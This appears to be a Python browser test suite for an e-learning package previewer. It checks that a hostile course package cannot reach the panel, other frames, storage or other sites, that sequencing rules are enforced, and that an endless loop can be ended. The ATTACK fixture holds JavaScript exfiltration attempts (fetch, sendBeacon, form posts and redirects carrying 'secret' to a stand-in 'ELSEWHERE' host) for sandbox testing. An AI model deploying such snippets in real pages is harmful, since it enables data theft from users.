"""A package from anywhere in a real browser: it is played like any other, and reaches nothing that is not its own."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler
from typing import TYPE_CHECKING

import pytest
from accessibility import violations
from chromium import SHELL, program
from patience import PATIENCE
from playwright.sync_api import expect
from ports import free_port
from serving import Server

from exporter.preview.session import Play
from tests.preview.packages_of_others import package_of, sequenced

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

# Each attempt writes what came of it into the page; what goes somewhere else is seen by the server that is elsewhere.
ATTACK = """<!doctype html><title>A page</title><body>
<img src="ELSEWHERE/picture"><script src="ELSEWHERE/script"></script>
<link rel="stylesheet" href="ELSEWHERE/style"><link rel="prefetch" href="ELSEWHERE/prefetch">
<form id="form" action="ELSEWHERE/form" method="post" target="inner"></form>
<iframe name="inner" srcdoc="<p>inside</p>"></iframe><iframe id="away"></iframe>
<script>
const tries = {
  panel: () => fetch("PANEL/state.json").then((reply) => reply.text()),
  framed: () => top.document.title,
  stored: () => top.localStorage.length,
  elsewhere: () => fetch("ELSEWHERE/fetch", { mode: "no-cors" }).then(() => "sent"),
  worker: () => navigator.serviceWorker.register("worker.js"),
  opened: () => window.open("ELSEWHERE/opened") || Promise.reject(new Error("refused")),
  top: () => { top.location = "ELSEWHERE/top"; },
};
(async () => {
  const reported = [];
  for (const [name, attempt] of Object.entries(tries)) {
    const outcome = await (async () => String(await attempt()).slice(0, 40))().catch(() => "refused");
    reported.push(`${name}: ${outcome}`);
  }
  navigator.sendBeacon("ELSEWHERE/beacon", "secret");
  document.getElementById("form").submit();
  document.getElementById("away").src = "ELSEWHERE/away?secret";
  const api = window.parent.API;
  reported.push(`LMS: ${api.LMSInitialize("")}`);
  reported.push(`${api.LMSSetValue("cmi.core.lesson_status", "completed")} ${api.LMSCommit("")}`);
  location = "ELSEWHERE/location?secret";
  console.info(`Reported: ${reported.join(", ")}`);
})();
</script>"""

LOOPS_ONCE = """<!doctype html><title>A page</title><body><script>
if (document.cookie) {
  document.body.append("Back again");
} else {
  document.cookie = "looped=1";
  addEventListener("load", () => setTimeout(() => { console.info("Looping"); for (;;) {} }, 0));
}
</script>"""
_IN_HASTE = "const every = setInterval; window.setInterval = (act, time) => every(act, time / 50);"
"""The panel's patience with a course that does not answer is short."""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Serve another site, which remembers the paths of all requests."""
    requests: list[str] = []
    lock = threading.Lock()

    class Elsewhere(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            with lock:
                requests.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the base class wants the name

        def log_message(self, *_: object) -> None:
            pass

    with Server(Elsewhere) as server:
        yield f"http://127.0.0.1:{server.server_port}", requests


def test_a_hostile_package_reaches_nothing_but_the_lms(
    browser: Browser, elsewhere: tuple[str, list[str]], tmp_path: Path
) -> None:
    """No other site, not the panel, no other window: only the run-time that every package looks for."""
    address, requests = elsewhere
    port = free_port()  # to write into the package before it is played
    panel = f"http://127.0.0.1:{port}"
    path = tmp_path / "hostile.zip"
    page_of_it = ATTACK.replace("ELSEWHERE", address).replace("PANEL", panel)
    path.write_bytes(package_of({"index.html": page_of_it, "worker.js": "self.addEventListener('fetch', () => {});"}))
    with Play(path, port, network=False) as play:
        assert play.panel.origin == panel
        page = browser.new_page()
        page.set_default_timeout(PATIENCE * 1000)
        with page.expect_console_message(lambda message: message.text.startswith("Reported: ")) as message:
            page.goto(f"{play.panel.origin}/")
        expect(page.locator("#sentence")).to_contain_text("Completed")
        assert page.url == f"{play.panel.origin}/"
        assert len(page.context.pages) == 1
        page.close()
    tried = ("panel", "framed", "stored", "elsewhere", "worker", "opened", "top")
    assert message.value.text == "Reported: " + "".join(f"{name}: refused, " for name in tried) + "LMS: true, true true"
    assert requests == []


def test_a_sequenced_package_is_led_by_its_rules(browser: Browser, tmp_path: Path) -> None:
    """By an LMS that enforces them: what is not to be launched says why, and a passed test opens the lesson."""
    path = tmp_path / "sequenced.zip"
    path.write_bytes(sequenced())
    with Play(path, 0, network=False) as play:
        page = browser.new_page()
        page.set_default_timeout(PATIENCE * 1000)
        page.goto(f"{play.panel.origin}/")
        sco = page.frame_locator("#runtime").frame_locator("iframe")
        notice, why = page.locator("#notice"), page.locator("#sco-list .why")
        expect(page.locator("#scos-note")).to_have_text("Moodle does not enforce the order that this package asks for.")
        page.locator("#profile").select_option("canvas")
        expect(why).to_have_text(["Hidden from choice while “test” is neither passed nor failed."])
        expect(sco.locator("#valid")).to_have_text("A page?test: continue true, lesson false")
        page.get_by_role("button", name="lesson").press("Enter")
        expect(notice).to_contain_text("Hidden from choice")

        sco.get_by_role("button", name="Fail").click()
        expect(why).to_have_text(["Hidden from choice while “test” is not passed."])
        page.locator("#sco-list").get_by_role("button", name="test").click()
        expect(page.locator("#call-list .session")).to_have_count(3)
        sco.get_by_role("button", name="Pass").click()
        expect(sco.locator("#valid")).to_have_text("A page?lesson: continue true, lesson true")
        expect(why).to_have_count(0)

        page.reload()
        expect(sco.locator("#valid")).to_have_text("A page?lesson: continue true, lesson true")
        expect(page.locator("#way-previous")).to_have_attribute("aria-disabled", "false")
        page.get_by_role("button", name="Continue").click()
        expect(notice).to_contain_text("The learner has left the course.")
        assert violations(page) == []
        page.close()


def test_a_package_in_an_endless_loop_can_be_ended(browser: Browser, tmp_path: Path) -> None:
    """The panel lives in another process, and goes on with the package when the loop is gone."""
    path = tmp_path / "loop.zip"
    path.write_bytes(package_of({"index.html": LOOPS_ONCE}))
    switches = ["--no-sandbox"]  # and none that puts all origins into one process, as the other tests have
    whole = browser.browser_type.launch(executable_path=program(SHELL), args=switches)
    with whole, Play(path, 0, network=False) as play:
        page = whole.new_page()
        page.set_default_timeout(PATIENCE * 1000)
        page.add_init_script(_IN_HASTE)
        with page.expect_console_message(lambda message: message.text == "Looping"):
            page.goto(f"{play.panel.origin}/", wait_until="commit")
        page.get_by_role("button", name="Close and resume").click()
        page.get_by_role("button", name="End the course").click()
        expect(page.frame_locator("#runtime").frame_locator("iframe").locator("body")).to_contain_text("Back again")
        expect(page.locator("#notice")).to_have_text("")
